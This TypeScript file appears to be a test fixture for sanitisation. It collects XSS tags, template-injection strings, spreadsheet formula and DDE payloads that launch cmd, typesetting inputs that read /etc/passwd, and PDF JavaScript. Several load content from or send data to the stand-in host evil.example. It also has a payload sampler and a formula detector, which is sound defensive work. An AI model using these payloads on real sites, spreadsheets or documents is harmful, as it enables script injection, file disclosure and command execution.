/*
 * Texts that would run somewhere if a page, a PDF or a spreadsheet took them for more than words. Each tries to set
 * `window.canary`, to open a dialog, or to load something from elsewhere.
 */

const run = 'window.canary=1'

const tags = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
  `<iframe src="javascript:parent.canary=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">press</a>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<style>@import url(//evil.example/x.css);</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example><button autofocus>x</button></form>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<x onclick=${run} tabindex=0 autofocus onfocus=${run}>x</x>`,
]

const breakouts = [
  '"',
  "'",
  '`',
  '-->',
  ']]>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '"/>',
  "'/>",
  '\\"',
  '\\u003c',
]

const templates = [
  '{{constructor.constructor("window.canary=1")()}}',
  '${window.canary=1}',
  '#{window.canary=1}',
  '<%= window.canary=1 %>',
  '{{7*7}}',
  '[[${7*7}]]',
  'javascript:window.canary=1',
  'data:text/html,<script>window.canary=1</script>',
  'vbscript:msgbox(1)',
  '&lt;script&gt;window.canary=1&lt;/script&gt;',
  '%3Cscript%3Ewindow.canary=1%3C/script%3E',
  '\u2028window.canary=1\u2029',
  '\u202Etxet desrever\u202C',
  '＜script＞window.canary=1＜/script＞',
  '__proto__',
  'constructor',
]

const sheets = [
  '=1+1',
  '=HYPERLINK("http://evil.example","press")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  ' =1+1',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"1")',
  '%0A=1+1',
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  '＝1+1',
]

const typesetting = [
  '#panic("typeset")',
  '#read("/etc/passwd")',
  '#eval("1+1")',
  '#import "@preview/x:0.0.1": *',
  '#include "/etc/passwd"',
  '$ integral $ *bold* _it_ `raw` = heading',
  '\\input{/etc/passwd}',
  '[](file:///etc/passwd)',
  '(Tj) BT /F1 12 Tf ET',
  '<</S/JavaScript/JS(app.alert(1))>>',
]

/** Two hundred of them, the plain ones first; fewer where time is short, of every kind. */
export function payloads(count: number): readonly string[] {
  const plain = [...tags, ...templates, ...sheets, ...typesetting]
  const broken = tags.flatMap((tag) => breakouts.map((end) => `${end}${tag}`))
  const all = [...plain, ...broken].slice(0, 200)
  const step = Math.max(Math.floor(all.length / count), 1)
  return all.filter((_, index) => index % step === 0).slice(0, count)
}

/** What a spreadsheet would calculate, at the beginning of a cell. */
export const isFormula = (cell: string): boolean =>
  /^[\s\u00A0]*[=+\-@\t\r|%＝＋－＠]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell)
